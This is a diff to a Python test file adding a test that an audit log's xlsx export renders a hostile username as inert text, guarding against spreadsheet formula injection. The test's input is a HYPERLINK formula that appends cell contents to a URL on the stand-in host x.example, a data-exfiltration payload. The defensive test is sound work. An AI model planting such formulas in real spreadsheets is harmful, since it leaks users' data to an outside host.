@@ -40,3 +40,21 @@ def test_xlsx_round_trip():
     assert rows[3][3].date() == date(2026, 11, 28) and rows[3][4] == datetime(2026, 11, 28, 9, 30)
     assert all("不导出" not in str(r) for r in rows)
     assert not any(isinstance(c.value, str) and c.data_type == "f" for row in ws.iter_rows() for c in row)
+
+
+def test_a_hostile_username_in_the_audit_log_exports_as_text(tmp_path):
+    """A signed-out visitor types a formula as the username; the admin's export of the log keeps it inert."""
+    from data_access import accounts, audit, db
+    from data_access.models import AppBase
+    from tests.conftest import using
+
+    hostile = '=HYPERLINK("http://x.example/?"&B3,"详情")'
+    with using(DASHBOARD_DATA_DIR=str(tmp_path)):
+        AppBase.metadata.create_all(db.engine("app"))
+        with pytest.raises(accounts.AccountError):
+            accounts.authenticate(hostile, "Wrong4horse", address="10.0.0.9")
+        df = audit.entries()
+    data = exports.xlsx(df, {"at": "时间", "username": "用户", "action": "操作", "detail": "内容", "address": "来源地址"})
+    ws = load_workbook(io.BytesIO(data)).active
+    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert cells and all(c.value.startswith("'=") and c.data_type == "s" for c in cells)
